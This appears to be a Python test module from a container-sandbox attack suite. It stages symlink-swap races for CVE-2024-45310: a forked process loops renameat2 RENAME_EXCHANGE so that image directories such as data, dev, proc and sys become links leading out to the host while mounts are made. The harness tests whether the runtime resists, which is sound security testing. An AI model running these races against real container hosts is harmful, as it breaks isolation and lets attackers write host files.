# SPDX-License-Identifier: MIT
"""Another process changes the image while the container starts."""
import os
import signal

import host
from attack_table import attack
from box import IMAGE, SHARE

RENAME_EXCHANGE = 2
ROUNDS = 25
# If no container has started by then, all of them found the link. A few more rounds are enough.
MOST_ROUNDS = 2000


def exchange(first, second, uid):
    """Exchanges them as fast as it can, in a session of its own, until it is killed."""
    pid = os.fork()
    if pid == 0:
        os.setsid()
        os.nice(5)
        if uid:
            host.drop_to(uid)
        one, other = os.fsencode(first), os.fsencode(second)
        while True:
            host.LIBC.syscall(316, -100, one, -100, other, RENAME_EXCHANGE)
    return pid


def race(link, target, name="data"):
    def run(t):
        os.makedirs(f"{IMAGE}/{name}", exist_ok=True)
        os.makedirs(f"{IMAGE}/{name}/sub", exist_ok=True)
        t.link(link, "other")
        t.give(f"{IMAGE}/{name}")
        t.bind(SHARE, target)
        swapper = exchange(f"{IMAGE}/{name}", f"{IMAGE}/other", 0 if t.disk_root == 0 else t.disk_root)
        begun = tried = 0
        while not t.host.found and (tried < ROUNDS or begun == 0) and tried < MOST_ROUNDS:
            t.attack("dotdot", "/data", "/other")
            begun += t.began()
            tried += 1
        os.kill(swapper, signal.SIGKILL)
        os.waitpid(swapper, 0)
        if begun == 0 and not t.host.found:
            raise RuntimeError(f"none of {tried} containers has started: {t.output[-300:]}")
        t.output = "began\n" + t.output
    return run


RACE = "races: directories of the image are now links that lead out, while it starts (CVE-2024-45310)"
for LINK, TARGET in ((".", "/data/"), ("..", "/data/"), ("../../mnt/host", "/data/made"), ("/proc/self/root/../mnt/host", "/data/made"),
                     ("..", "/data/sub/"), ("../../mnt/host", "/data/sub/made/deep")):
    attack("A", f"race-{LINK}-{TARGET}", f"a race: `data` of the image is now a directory, now a link to `{LINK}`, while a bind is made on `{TARGET}` (CVE-2024-45310)",
           rounds=ROUNDS, modes=("terminal",), may_refuse=True, family=RACE)(race(LINK, TARGET))
for NAME in ("dev", "proc", "sys"):
    attack("A", f"race-{NAME}", f"the same of the image's `/{NAME}`", rounds=ROUNDS, modes=("terminal",), may_refuse=True, family=RACE)(
        race("../../mnt/host", "/tmp", NAME))
